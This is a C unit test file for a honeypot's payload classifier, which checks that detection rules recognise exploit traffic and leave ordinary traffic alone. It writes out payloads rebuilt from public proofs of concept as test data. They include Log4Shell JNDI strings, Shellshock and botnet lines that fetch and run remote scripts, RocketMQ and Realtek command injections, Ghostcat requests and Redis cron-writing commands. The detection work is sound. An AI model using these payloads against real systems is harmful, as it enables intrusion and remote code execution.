/*
 * test_payloadclass.c - the trap's exploit recognition (src/intel/payloadclass.c,
 * data/trap/exploits.yar): each rule on the bytes its exploit sends, built
 * from the public proof-of-concept code; ordinary traffic matching nothing;
 * the replies that make a client go on; and rule files with bad metas
 * refused at start-up.
 */
#include <stdarg.h>
#include <stddef.h>
#include <setjmp.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <cmocka.h>

#include "intel/payloadclass.h"

static int setup(void **state)
{
    (void)state;
    char err[256];
    if (hp_payloadclass_init(NULL, err, sizeof(err)) != 0) {
        fprintf(stderr, "init: %s\n", err);
        return -1;
    }
    return 0;
}

static int teardown(void **state)
{
    (void)state;
    hp_payloadclass_shutdown();
    return 0;
}

static bool has(const char *const *list, size_t n, const char *s)
{
    for (size_t i = 0; i < n; i++)
        if (strcmp(list[i], s) == 0)
            return true;
    return false;
}

/* p[0..n) matches rule (and so has cve, when not NULL, and class). */
static void expect(const void *p, size_t n, const char *rule, const char *cve, const char *cls)
{
    struct hp_payloadclass r;
    hp_payloadclass_scan(p, n, &r);
    if (!has(r.rules, r.nrules, rule))
        fail_msg("expected rule %s (got %zu rules%s%s)", rule, r.nrules, r.nrules ? ", first " : "",
                 r.nrules ? r.rules[0] : "");
    if (cve && !has(r.cves, r.ncves, cve))
        fail_msg("rule %s: expected %s", rule, cve);
    if (!has(r.classes, r.nclasses, cls))
        fail_msg("rule %s: expected class %s", rule, cls);
}

static void expect_str(const char *s, const char *rule, const char *cve, const char *cls)
{
    expect(s, strlen(s), rule, cve, cls);
}

static void expect_none(const void *p, size_t n)
{
    struct hp_payloadclass r;
    hp_payloadclass_scan(p, n, &r);
    if (r.nrules)
        fail_msg("expected no rule, got %s", r.rules[0]);
    assert_int_equal(r.ncves, 0);
    assert_int_equal(r.nclasses, 0);
    assert_null(r.reply);
}

static size_t put16(uint8_t *b, size_t o, const char *s)
{
    size_t n = strlen(s);
    b[o] = (uint8_t)(n >> 8);
    b[o + 1] = (uint8_t)n;
    memcpy(b + o + 2, s, n);
    return o + 2 + n;
}

/* CVE-2023-46604: an OpenWire ExceptionResponse naming a Spring XML context and its URL. */
static void test_activemq(void **state)
{
    (void)state;
    uint8_t b[512];
    size_t o = 4;
    static const uint8_t head[] = { 0x1f, 0, 0, 0, 0, 0, 0, 0, 0, 0, 1, 1 };
    memcpy(b + o, head, sizeof(head));
    o += sizeof(head);
    o = put16(b, o, "org.springframework.context.support.ClassPathXmlApplicationContext");
    b[o++] = 1;
    o = put16(b, o, "http://192.0.2.7:8080/poc.xml");
    uint32_t len = (uint32_t)(o - 4);
    b[0] = (uint8_t)(len >> 24), b[1] = (uint8_t)(len >> 16), b[2] = (uint8_t)(len >> 8), b[3] = (uint8_t)len;
    expect(b, o, "activemq_openwire_spring_xml", "CVE-2023-46604", "deserialization");
    b[4] = 0xe0;                      /* not an OpenWire command type */
    expect_none(b, o);
}

/* CVE-2023-33246: RocketMQ RemotingCommand UPDATE_BROKER_CONFIG. */
static void test_rocketmq(void **state)
{
    (void)state;
    static const char hdr[] = "{\"code\":25,\"extFields\":{\"test\":\"a\"},\"flag\":0,\"language\":\"JAVA\","
                              "\"opaque\":0,\"serializeTypeCurrentRPC\":\"JSON\",\"version\":395}";
    static const char body[] = "filterServerNums=1\nrocketmqHome=-c $@|sh . echo curl http://192.0.2.7/s.sh|sh;\n";
    uint8_t b[512];
    size_t hl = sizeof(hdr) - 1, bl = sizeof(body) - 1, total = 4 + hl + bl;
    b[0] = (uint8_t)(total >> 24), b[1] = (uint8_t)(total >> 16), b[2] = (uint8_t)(total >> 8), b[3] = (uint8_t)total;
    b[4] = 0, b[5] = (uint8_t)(hl >> 16), b[6] = (uint8_t)(hl >> 8), b[7] = (uint8_t)hl;
    memcpy(b + 8, hdr, hl);
    memcpy(b + 8 + hl, body, bl);
    expect(b, 8 + hl + bl, "rocketmq_broker_config_update", "CVE-2023-33246", "rce");
    expect_str("{\"code\":318,\"flag\":0}configStorePath=/etc/cron.d/x\n", "rocketmq_namesrv_config_update",
               "CVE-2023-37582", "rce");
}

/* WebLogic T3: the handshake is answered; serialized gadgets get their CVEs. */
static void test_weblogic(void **state)
{
    (void)state;
    static const char hs[] = "t3 12.2.1\nAS:255\nHL:19\nMS:10000000\nPU:t3://us-l-breens:7001\n\n";
    struct hp_payloadclass r;
    hp_payloadclass_scan((const uint8_t *)hs, sizeof(hs) - 1, &r);
    assert_true(has(r.rules, r.nrules, "weblogic_t3_handshake"));
    assert_non_null(r.reply);
    assert_string_equal(r.reply_rule, "weblogic_t3_handshake");
    assert_int_equal(r.reply_len, strlen("HELO:12.2.1.3.0.false\nAS:2048\nHL:19\nMS:10000000\n\n"));
    assert_memory_equal(r.reply, "HELO:12.2.1.3.0.false\nAS:2048\nHL:19\nMS:10000000\n\n", r.reply_len);

    uint8_t b[600];
    static const uint8_t t3hdr[] = { 0, 0, 5, 0xc3, 1, 0x65, 1, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff };
    static const uint8_t ser[] = { 0xac, 0xed, 0, 5, 0x73, 0x72 };
    const char *gadgets[][2] = {
        { "weblogic.jms.common.StreamMessageImpl", "CVE-2016-0638" },
        { "weblogic.corba.utils.MarshalledObject", "CVE-2016-3510" },
    };
    for (size_t g = 0; g < 2; g++) {
        size_t o = 0;
        memcpy(b, t3hdr, sizeof(t3hdr));
        o += sizeof(t3hdr);
        memcpy(b + o, ser, sizeof(ser));
        o += sizeof(ser);
        o = put16(b, o, gadgets[g][0]);
        expect(b, o, "weblogic_t3_deserialization", gadgets[g][1], "deserialization");
        hp_payloadclass_scan(b, o, &r);
        assert_null(r.reply);             /* only the handshake is answered */
    }
    static const char cc[] = "\xac\xed\x00\x05sr\x00\x3aorg.apache.commons.collections.functors.InvokerTransformer"
                             " weblogic.rjvm.ClassTableEntry";
    expect(cc, sizeof(cc) - 1, "weblogic_t3_gadget_2015_4852", "CVE-2015-4852", "rce");
    static const char cv[] = "\xac\xed\x00\x05sr\x00\x2ejavax.management.BadAttributeValueExpException"
                             "com.tangosol.util.filter.LimitFilter com.tangosol.util.extractor.ReflectionExtractor";
    expect(cv, sizeof(cv) - 1, "weblogic_t3_gadget_2020_2555", "CVE-2020-2555", "deserialization");
    static const char giop[] = "GIOP\x01\x02\x00\x00\x00\x00\x01\x00"
                               "com.bea.core.repackaged.springframework.transaction.jta.JtaTransactionManager";
    expect(giop, sizeof(giop) - 1, "weblogic_iiop_jta_2020_2551", "CVE-2020-2551", "jndi");
    hp_payloadclass_scan((const uint8_t *)giop, sizeof(giop) - 1, &r);
    assert_false(has(r.cves, r.ncves, "CVE-2018-3191"));
}

static void test_java_wire(void **state)
{
    (void)state;
    struct hp_payloadclass r;
    hp_payloadclass_scan((const uint8_t *)"JDWP-Handshake", 14, &r);
    assert_true(has(r.rules, r.nrules, "jdwp_handshake"));
    assert_non_null(r.reply);
    assert_memory_equal(r.reply, "JDWP-Handshake", 14);
    expect("JRMI\x00\x02\x4b", 7, "java_rmi_handshake", NULL, "recon");
    expect("\xac\xed\x00\x05\x73\x72\x00\x01x", 9, "java_serialized_object", NULL, "deserialization");
}

/* AJP13 string: length, bytes, NUL. */
static size_t ajp_str(uint8_t *b, size_t o, const char *s)
{
    o = put16(b, o, s);
    b[o++] = 0;
    return o;
}

/* Tomcat's AJP connector: the CPing answered with the CPong; Ghostcat's forward request. */
static void test_ajp(void **state)
{
    (void)state;
    struct hp_payloadclass r;
    hp_payloadclass_scan((const uint8_t *)"\x12\x34\x00\x01\x0a", 5, &r);
    assert_true(has(r.rules, r.nrules, "ajp13_cping"));
    assert_int_equal(r.reply_len, 5);
    assert_memory_equal(r.reply, "AB\x00\x01\x09", 5);
    /* the public Ghostcat PoC's FORWARD_REQUEST for /WEB-INF/web.xml */
    uint8_t b[1024];
    size_t o = 4;
    b[o++] = 2;                                   /* JK_AJP13_FORWARD_REQUEST */
    b[o++] = 2;                                   /* GET */
    o = ajp_str(b, o, "HTTP/1.1");
    o = ajp_str(b, o, "/asdf");
    o = ajp_str(b, o, "127.0.0.1");
    o = ajp_str(b, o, "localhost");
    o = ajp_str(b, o, "localhost");
    b[o++] = 0, b[o++] = 80, b[o++] = 0;          /* port 80, not SSL */
    b[o++] = 0, b[o++] = 0;                       /* no headers */
    static const char *const attrs[][2] = {
        { "javax.servlet.include.request_uri", "/" },
        { "javax.servlet.include.path_info", "WEB-INF/web.xml" },
        { "javax.servlet.include.servlet_path", "/" },
    };
    size_t plain_end = o;
    for (size_t i = 0; i < 3; i++) {
        b[o++] = 0x0a;
        o = ajp_str(b, o, attrs[i][0]);
        o = ajp_str(b, o, attrs[i][1]);
    }
    b[o++] = 0xff;
    b[0] = 0x12, b[1] = 0x34, b[2] = (uint8_t)((o - 4) >> 8), b[3] = (uint8_t)(o - 4);
    expect(b, o, "ajp13_ghostcat", "CVE-2020-1938", "lfi");
    hp_payloadclass_scan(b, o, &r);
    assert_null(r.reply);
    /* the same request without the attributes: a forward request, nothing more */
    b[plain_end] = 0xff;
    hp_payloadclass_scan(b, plain_end + 1, &r);
    assert_int_equal(r.nrules, 1);
    assert_string_equal(r.rules[0], "ajp13_forward_request");
    assert_int_equal(r.ncves, 0);
}

/* Strings bots send to every port. */
static void test_sprayed(void **state)
{
    (void)state;
    expect_str("${jndi:ldap://198.51.100.3:1389/a}\r\n", "log4shell_jndi_lookup", "CVE-2021-44228", "jndi");
    expect_str("X-Api-Version: ${${lower:j}ndi:${lower:l}${lower:d}a${lower:p}://x.example/a}",
               "log4shell_jndi_lookup", "CVE-2021-44228", "jndi");
    expect_str("${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://192.0.2.1/a}", "log4shell_jndi_lookup",
               "CVE-2021-44228", "rce");
    expect_str("() { :; }; /bin/bash -c 'cd /tmp; wget http://192.0.2.7/x'", "shellshock_function_definition",
               "CVE-2014-6271", "rce");
    expect_str("cd /tmp || cd /var/run; wget http://192.0.2.7/bins.sh; chmod 777 bins.sh; sh bins.sh\r\n",
               "shell_download_command", NULL, "command-injection");
    expect_str("busybox tftp -r mips -g 192.0.2.7; chmod +x mips; ./mips\n", "shell_download_command", NULL,
               "command-injection");
    expect_str("MGLNDD_203.0.113.9_8081\n", "magnet_mglndd", NULL, "scanner");
}

static void test_devices_and_udp(void **state)
{
    (void)state;
    static const uint8_t monlist[8] = { 0x17, 0x00, 0x03, 0x2a, 0, 0, 0, 0 };
    expect(monlist, sizeof(monlist), "ntp_monlist", "CVE-2013-5211", "recon");
    static const uint8_t ntp_client[48] = { 0xe3, 0x00, 0x06, 0xec };   /* an ordinary mode 3 query */
    expect_none(ntp_client, sizeof(ntp_client));
    static const uint8_t si[24] = { 0, 0, 0, 1, 0, 0, 0, 1, 0, 0, 0, 4, 0, 0, 0, 8, 0, 0, 0, 1 };
    expect(si, sizeof(si), "cisco_smart_install", "CVE-2018-0171", "recon");
    expect_str("orf;cd /tmp; wget http://192.0.2.7/a.sh; sh a.sh", "realtek_mp_daemon", "CVE-2021-35394", "rce");
    expect_str("*4\r\n$6\r\nconfig\r\n$3\r\nset\r\n$3\r\ndir\r\n$16\r\n/var/spool/cron/\r\n",
               "redis_config_set_dir_write", NULL, "rce");
    expect_str("*3\r\n$7\r\nSLAVEOF\r\n$11\r\n192.0.2.7\r\n$4\r\n6379\r\n*3\r\n$6\r\nMODULE\r\n$4\r\nLOAD\r\n"
               "$11\r\n/tmp/exp.so\r\n", "redis_rogue_replica", NULL, "rce");
}

/* What honest clients and scanners send to an open port matches nothing. */
static void test_ordinary_traffic(void **state)
{
    (void)state;
    static const char *const texts[] = {
        "SSH-2.0-OpenSSH_9.2p1 Debian-2+deb12u3\r\n",
        "GET / HTTP/1.1\r\nHost: 192.0.2.1\r\nUser-Agent: curl/7.88.1\r\n\r\n",
        "hello\r\n",
        "HELP\r\n",
        "USER anonymous\r\n",
        "*1\r\n$4\r\nINFO\r\n",
        "wget is a program; see http://www.gnu.org/software/wget/\n",
        "OPTIONS sip:nm SIP/2.0\r\nVia: SIP/2.0/TCP nm;branch=foo\r\n\r\n",
        "\x03\x00\x00\x13\x0e\xe0\x00\x00\x00\x00\x00\x01\x00\x08\x00\x03\x00\x00\x00",
    };
    for (size_t i = 0; i < sizeof(texts) / sizeof(texts[0]); i++)
        expect_none(texts[i], strlen(texts[i]) ? strlen(texts[i]) : 1);
    uint8_t noise[4096];
    uint32_t x = 2463534242u;
    for (size_t i = 0; i < sizeof(noise); i++) {
        x ^= x << 13, x ^= x >> 17, x ^= x << 5;
        noise[i] = (uint8_t)x;
    }
    expect_none(noise, sizeof(noise));
    expect_none("", 0);
}

/* Verdicts are kept per chunk (the memo): the same bytes again get the same
 * verdict, other bytes of the same length their own, long chunks are scanned. */
static void test_memo(void **state)
{
    (void)state;
    static const char hs[] = "t3 12.2.1\nAS:255\nHL:19\n\n";
    char other[sizeof(hs)];
    memcpy(other, hs, sizeof(hs));
    other[0] = 'x';                                /* same length, no rule */
    struct hp_payloadclass a, b, c;
    for (int round = 0; round < 3; round++) {
        hp_payloadclass_scan((const uint8_t *)hs, sizeof(hs) - 1, &a);
        hp_payloadclass_scan((const uint8_t *)other, sizeof(other) - 1, &b);
        assert_true(has(a.rules, a.nrules, "weblogic_t3_handshake"));
        assert_non_null(a.reply);
        assert_int_equal(b.nrules, 0);
        assert_null(b.reply);
    }
    hp_payloadclass_scan((const uint8_t *)hs, sizeof(hs) - 1, &c);
    assert_memory_equal(&a, &c, sizeof(a));
    /* more chunks of one length than the table has slots: they share slots,
     * and each still gets its own verdict, twice over */
    for (int round = 0; round < 2; round++)
        for (int i = 0; i < 300; i++) {
            char buf[32];
            snprintf(buf, sizeof(buf), i % 2 ? "t3 12.2.%03d\nAS:255\n\n" : "x3 12.2.%03d\nAS:255\n\n", i);
            struct hp_payloadclass r;
            hp_payloadclass_scan((const uint8_t *)buf, strlen(buf), &r);
            if ((r.reply != NULL) != (i % 2 == 1))
                fail_msg("round %d chunk %d (%s): reply %s", round, i, buf, r.reply ? "given" : "missing");
        }
    /* a chunk longer than the memo keeps is matched every time */
    static uint8_t big[8192];
    memset(big, 'A', sizeof(big));
    memcpy(big + 5000, "${jndi:ldap://x/a}", 18);
    for (int round = 0; round < 2; round++)
        expect(big, sizeof(big), "log4shell_jndi_lookup", "CVE-2021-44228", "jndi");
}

/* Rule files with wrong metas never load: the error names the rule. */
static void test_bad_rules(void **state)
{
    (void)state;
    static const struct { const char *src, *want; } bad[] = {
        { "rule a { meta: class = \"hacking\" cve = \"\" name = \"x\" condition: true }", "unknown class 'hacking'" },
        { "rule b { meta: class = \"recon\" cve = \"CVE-21-1\" name = \"x\" condition: true }", "bad CVE id" },
        { "rule c { meta: class = \"recon\" cve = \"\" condition: true }", "needs the metas" },
        { "rule d { meta: class = \"\" cve = \"\" name = \"x\" condition: true }", "no class" },
        { "rule e { condition: tru }", "exploits.yar" },
        { "rule f { meta: class = \"recon\" cve = \"\" name = \"x\" reply_hex = \"4g\" condition: true }",
          "reply_hex is not hex" },
        { "rule g { meta: class = \"recon\" cve = \"\" name = \"x\" reply_hex = \"414\" condition: true }",
          "reply_hex is not hex" },
        { "rule h { meta: class = \"recon\" cve = \"\" name = \"x\" reply = \"a\" reply_hex = \"41\""
          " condition: true }", "both given" },
    };
    char err[256];
    for (size_t i = 0; i < sizeof(bad) / sizeof(bad[0]); i++) {
        assert_int_equal(hp_payloadclass_init_text(bad[i].src, err, sizeof(err)), -1);
        if (!strstr(err, bad[i].want))
            fail_msg("%s: error '%s' lacks '%s'", bad[i].src, err, bad[i].want);
        assert_int_equal(hp_payloadclass_nrules(), 0);
    }
    struct hp_payloadclass r;
    hp_payloadclass_scan((const uint8_t *)"${jndi:x}", 9, &r);    /* nothing loaded: nothing matches */
    assert_int_equal(r.nrules, 0);
    assert_int_equal(hp_payloadclass_init_text("rule ok { meta: class = \"scanner recon\" cve = \"CVE-2020-0001\""
                                               " name = \"n\" reply = \"A\\x42\\n\" strings: $a = \"zz\""
                                               " condition: $a }", err, sizeof(err)), 0);
    hp_payloadclass_scan((const uint8_t *)"aazz", 4, &r);
    assert_int_equal(r.nclasses, 2);
    assert_string_equal(r.cves[0], "CVE-2020-0001");
    assert_int_equal(r.reply_len, 3);
    assert_memory_equal(r.reply, "AB\n", 3);
    hp_payloadclass_shutdown();
    assert_int_equal(hp_payloadclass_init(NULL, err, sizeof(err)), 0);
    assert_true(hp_payloadclass_nrules() >= 20);
    assert_true(hp_payloadclass_has_replies());
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_activemq),
        cmocka_unit_test(test_rocketmq),
        cmocka_unit_test(test_weblogic),
        cmocka_unit_test(test_java_wire),
        cmocka_unit_test(test_ajp),
        cmocka_unit_test(test_sprayed),
        cmocka_unit_test(test_devices_and_udp),
        cmocka_unit_test(test_ordinary_traffic),
        cmocka_unit_test(test_memo),
        cmocka_unit_test(test_bad_rules),
    };
    return cmocka_run_group_tests(tests, setup, teardown);
}
